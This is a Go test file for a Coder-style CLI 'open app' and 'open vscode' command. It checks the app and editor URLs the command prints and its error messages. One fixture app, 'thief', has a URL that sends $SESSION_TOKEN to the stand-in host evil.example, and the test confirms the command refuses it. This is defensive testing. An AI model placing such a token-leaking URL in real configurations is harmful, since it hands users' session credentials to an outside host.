package cli

import (
	"strings"
	"testing"

	"github.com/seed-2a7f8fe7/coder/codersdk"
	"github.com/seed-2a7f8fe7/coder/internal/server"
)

// TestOpen asks for the addresses of apps and of VS Code.
func TestOpen(t *testing.T) {
	h := newHouse(t, func(c *server.Config) { c.Network.WildcardAccessURL = "*.apps.test" })
	h.template("apps", map[string]string{"graph.jsonl": strings.ReplaceAll(`{"complete": {"resources": [{"type": "null_resource", "name": "host", "agents": [
		{"id": "a", "name": "main", "operatingSystem": "linux", "architecture": "amd64", "token": "5f2a7e6e-1d55-4c7c-9a31-0b6f7f3c2f10", "apps": [
			{"slug": "web", "url": "http://localhost:1", "subdomain": true},
			{"slug": "path", "url": "http://localhost:1"},
			{"slug": "top", "command": "htop"},
			{"slug": "editor", "url": "zed://open?token=$SESSION_TOKEN&again=$SESSION_TOKEN", "external": true},
			{"slug": "docs", "url": "https://docs.example.com/", "external": true},
			{"slug": "thief", "url": "https://evil.example/?t=$SESSION_TOKEN", "external": true}
		]}]}]}}`, "\n", "")})
	h.ok("create", "dev", "-t", "apps", "--yes")
	at := h.AccessURL()
	for args, want := range map[string]string{
		"open app dev web":                  "http://web--main--dev--admin.apps.test:" + at.Port() + "/\n",
		"open app admin/dev.main path":      at.String() + "/@admin/dev.main/apps/path/\n",
		"open app dev top":                  at.String() + "/@admin/dev.main/terminal?app=top\n",
		"open app dev docs":                 "https://docs.example.com/\n",
		"open vscode dev":                   "vscode://coder.coder-remote/open?agent=main&owner=admin&url=" + strings.ReplaceAll(strings.ReplaceAll(at.String(), ":", "%3A"), "/", "%2F") + "&workspace=dev\n",
		"open vscode dev.main /srv/a":       "&folder=%2Fsrv%2Fa&",
		"open vscode dev --generate-token":  "&token=",
		"open app dev web --region primary": "web--main",
		"open app dev editor":               "zed://open?token=",
	} {
		out, _ := h.ok(strings.Fields(args)...)
		if strings.HasSuffix(want, "\n") && out != want || !strings.Contains(out, want) || strings.Contains(out, "$SESSION") {
			t.Errorf("coder %s: %q, want %q", args, out, want)
		}
		if strings.Contains(out, h.Client.SessionToken) {
			t.Errorf("coder %s gives away the session: %q", args, out)
		}
	}
	for args, want := range map[string]string{
		"open app dev":                     "no app given; use one of docs, editor, path, thief, top, web",
		"open app dev none":                `no app "none"`,
		"open app dev.other web":           "no apps",
		"open app dev web --region europe": "the regions are: primary",
		"open app dev thief":               "must not receive the token",
		"open app nothing web":             "no workspace nothing",
		"open vscode dev.other":            "it has main",
	} {
		out, errs, status := h.run(strings.Fields(args)...)
		if status == 0 || !strings.Contains(errs, want) {
			t.Errorf("coder %s: %d %q %q, want %q", args, status, out, errs, want)
		}
	}
	w, err := h.Client.WorkspaceByOwnerAndName(t.Context(), "me", "dev", nil)
	h.must(err)
	if p := w.LatestBuild.Resources[0].Agents[0].Apps[0]; p.Subdomain && p.SubdomainName != codersdk.SubdomainAppName(p.Slug, "main", "dev", "admin") {
		t.Errorf("the host label is %q", p.SubdomainName)
	}
	h.ok("stop", "dev", "--yes")
	if _, errs, status := h.run("open", "app", "dev", "web"); status == 0 || !strings.Contains(errs, "coder start dev") {
		t.Errorf("of a stopped workspace: %d %q", status, errs)
	}
}
